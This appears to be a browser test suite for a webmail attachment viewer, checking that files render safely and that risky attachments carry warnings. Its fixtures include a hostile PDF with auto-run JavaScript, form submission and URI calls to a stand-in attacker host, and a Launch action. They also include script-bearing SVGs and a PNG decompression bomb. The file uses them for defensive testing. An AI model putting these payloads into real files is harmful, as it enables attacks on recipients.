"""Files of a message looked at in the page: from memory, as pixels and text, whatever they really are."""

from __future__ import annotations

import re
import zlib
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from webmail.demo.files import DAWN, pdf, picture

from .accessible import clean
from .canary import Canary
from .reading import letter, read
from .under_attack import quiet
from .visitor import SLOW, Visitor

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

#: Opens by itself: a script, an address, a program and a form that sends itself; and links all over the page.
HOSTILE = b"""%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>/AcroForm<</Fields[6 0 R]/XFA 8 0 R>>
/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 7 0 R/Annots[5 0 R 6 0 R]/AA<</O 4 0 R>>
/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>endobj
4 0 obj<</S/JavaScript/JS(app.alert\\('ran'\\); this.submitForm\\('http://hit.attacker.example/js'\\);)
/Next<</S/URI/URI(http://hit.attacker.example/uri)/Next<</S/Launch/F(calc.exe)>>>>>>endobj
5 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(http://hit.attacker.example/link)>>>>endobj
6 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/Rect[0 0 300 100]/V(typed)/AA<</Fo 4 0 R>>>>endobj
7 0 obj<</Length 44>>stream
BT /F 24 Tf 20 100 Td (Plain words) Tj ET   \nendstream endobj
8 0 obj<</Length 80>>stream
<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>
endstream endobj
trailer<</Root 1 0 R>>
%%EOF
"""


def bomb() -> bytes:
    """A PNG of a few hundred bytes that asks for ten thousand million pixels."""
    head = (100_000).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    sum_ = zlib.crc32(b"IHDR" + head).to_bytes(4, "big")
    return b"\x89PNG\r\n\x1a\n" + (13).to_bytes(4, "big") + b"IHDR" + head + sum_ + bytes(200)


FILES = [
    ("Skizze.png", "image/png", picture(640, 320, DAWN)),
    ("Notiz.txt", "text/plain", "Grüße an <b>alle</b>\r\n".encode("latin-1") * 3),
    ("Proof.pdf", "application/pdf", pdf(["Chapter seven", "The lamp and the river"])),
    ("hostile.pdf", "application/pdf", HOSTILE),
    ("broken.pdf", "application/pdf", b"%PDF-1.7\nnothing of it is true"),
    ("not-a.png", "image/png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='ran=1'><rect/></svg>" * 3),
    ("bomb.png", "image/png", bomb()),
    ("drawing.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>ran=1</script></svg>"),
    ("invoice.pdf.exe", "application/octet-stream", b"MZ"),
    ("winmail.dat", "application/ms-tnef", b"\x78\x9f\x3e\x22"),
    ("Bob.vcf", "text/vcard", b"BEGIN:VCARD\r\nFN:Bob\r\nEND:VCARD\r\n"),
    ("list.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", b"PK"),
]

INK = """canvas => {
  const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
  let inked = 0;
  for (let at = 0; at < data.length; at += 4) if (data[at] + data[at + 1] + data[at + 2] < 600) inked += 1;
  return inked;
}"""


@pytest.fixture(scope="module")
def page(victim: Visitor) -> Page:
    return read(victim, letter("Files to look at", files=FILES))


def look_at(page: Page, name: str) -> None:
    page.locator(".file-name", has_text=name).click()
    expect(page.locator(".viewer-title")).to_have_text(name)


def width(page: Page) -> float:
    return float(page.locator("canvas.viewer-page").evaluate("canvas => canvas.getBoundingClientRect().width"))


def larger(page: Page, least: float) -> None:
    """Playwright's own waiting for a condition needs eval, which the page's policy refuses."""
    for _ in range(100):
        if width(page) > least:
            return
        page.wait_for_timeout(100)
    raise AssertionError(f"the page stayed at {width(page)}")


def close(page: Page) -> None:
    page.keyboard.press("Escape")
    expect(page.locator("dialog.viewer")).to_have_count(0)


def test_pictures_texts_and_pdfs_are_looked_at_one_after_the_other(page: Page) -> None:
    look_at(page, "Skizze.png")
    expect(page.locator("canvas.viewer-picture")).to_be_visible(timeout=SLOW)
    assert page.locator("canvas.viewer-picture").evaluate("canvas => [canvas.width, canvas.height]") == [640, 320]
    assert page.locator("canvas.viewer-picture").evaluate(INK) > 1000
    page.keyboard.press("ArrowRight")
    # Text of another charset, and markup in it is text.
    expect(page.locator(".viewer-pre")).to_contain_text("Grüße an <b>alle</b>", timeout=SLOW)
    page.keyboard.press("ArrowRight")
    expect(page.locator("canvas.viewer-page")).to_be_visible(timeout=SLOW)
    assert page.locator("canvas.viewer-page").evaluate(INK) > 200
    expect(page.locator(".viewer-stage .unseen")).to_contain_text("The lamp and the river")
    before = width(page)
    page.keyboard.press("+")
    larger(page, before * 1.2)
    page.keyboard.press("ArrowLeft")
    expect(page.locator(".viewer-title")).to_have_text("Notiz.txt")
    close(page)


def test_a_hostile_pdf_is_drawn_and_does_nothing(victim: Visitor, page: Page, listener: Canary) -> None:
    before, asked, dialogs = len(listener.hits), len(victim.requests), []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    look_at(page, "hostile.pdf")
    expect(page.locator("canvas.viewer-page")).to_be_visible(timeout=SLOW)
    assert page.locator("canvas.viewer-page").evaluate(INK) > 50
    page.locator("canvas.viewer-page").click()
    page.wait_for_timeout(500)
    assert page.locator("dialog.viewer").locator("a, input, iframe, svg:not(.icon)").count() == 0
    assert dialogs == [] and page.evaluate("window.ran ?? null") is None
    # The bytes of the file, code of ours, and the sealed records that the page keeps up: nothing else was asked for.
    others = [url for url in victim.requests[asked:] if not re.search(r"/part/[\d.]+/$|/static/\w+/|/keys/state/", url)]
    assert others == []
    assert [hit for hit in quiet(listener)[before:] if not hit.startswith(("TLS", "connected"))] == []
    close(page)


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("broken.pdf", "This PDF cannot be shown"),
        ("not-a.png", "This picture cannot be shown"),
        ("bomb.png", "too large to show"),
    ],
)
def test_what_cannot_be_shown_says_so(page: Page, name: str, sentence: str) -> None:
    look_at(page, name)
    expect(page.locator(".viewer-stage")).to_contain_text(sentence, timeout=SLOW)
    assert page.locator(".viewer canvas").count() == 0
    assert page.evaluate("window.ran ?? null") is None
    close(page)


@pytest.mark.parametrize(
    ("name", "note"),
    [
        ("drawing.svg", "is a web page that can run scripts"),
        ("invoice.pdf.exe", "although its name looks like a document"),
        ("winmail.dat", "Outlook packed text or files into this one"),
        ("Bob.vcf", "Contact card"),
        ("list.xlsm", "inside an office program"),
    ],
)
def test_a_word_stands_beside_files_that_are_more_than_they_look(page: Page, name: str, note: str) -> None:
    expect(page.locator(".file", has_text=name).locator("[data-note]")).to_contain_text(note)


def test_a_download_is_named_and_typed_so_that_nothing_opens_it(page: Page) -> None:
    # SVG is not looked at here: its name saves it, as the button beside it does.
    with page.expect_download() as download:
        page.locator(".file-name", has_text="drawing.svg").click()
    assert download.value.suggested_filename == "drawing.svg"
    look_at(page, "Proof.pdf")
    with page.expect_download() as download:
        page.locator("[data-viewer=save]").click()
    assert Path(download.value.path()).read_bytes() == FILES[2][2]
    close(page)


@pytest.mark.parametrize(("wide", "scheme"), [(390, "dark"), (1440, "light")])
def test_the_panel_is_accessible_and_fits(page: Page, wide: int, scheme: str) -> None:
    page.set_viewport_size({"width": wide, "height": 844})
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    look_at(page, "Proof.pdf")
    expect(page.locator("canvas.viewer-page")).to_be_visible(timeout=SLOW)
    clean(page, "a PDF")
    # At phone width the page fills the window.
    assert min(wide, 900) * 0.85 < width(page) <= wide
    close(page)
    clean(page, "a list of files with notes")
    page.set_viewport_size({"width": 1440, "height": 900})
    page.emulate_media(color_scheme="light")


def test_locking_the_keys_closes_what_was_decrypted(victim: Visitor, tmp_path: Path) -> None:
    from .cage import PASSPHRASE

    page, drawing = victim.page, tmp_path / "Plan.png"
    drawing.write_bytes(picture(200, 100, DAWN))
    victim.open_mailbox()
    victim.write([victim.address], "A plan", "Look at it.", [drawing])
    victim.send("send-encrypted")
    victim.open_mailbox()
    victim.open_message()
    expect(victim.line).to_have_attribute("data-enc", "enc-ok", timeout=SLOW)
    asked = len(victim.requests)
    look_at(page, "Plan.png")
    expect(page.locator("canvas.viewer-picture")).to_be_visible(timeout=SLOW)
    # From memory: what was decrypted is not asked of the server. The list may be asked for: mail has just arrived.
    assert [url for url in victim.requests[asked:] if re.search(r"/\d+/\d+/\w", url)] == []
    # The panel lies over the page; the keys also lock by idling or from another tab.
    page.evaluate("document.querySelector('key-status button').click()")
    expect(page.locator("dialog.viewer")).to_have_count(0, timeout=SLOW)
    expect(page.locator("[data-slot=files]")).to_be_hidden()
    victim.page.locator("protection-line button", has_text="Unlock").click()
    victim.unlock(PASSPHRASE)
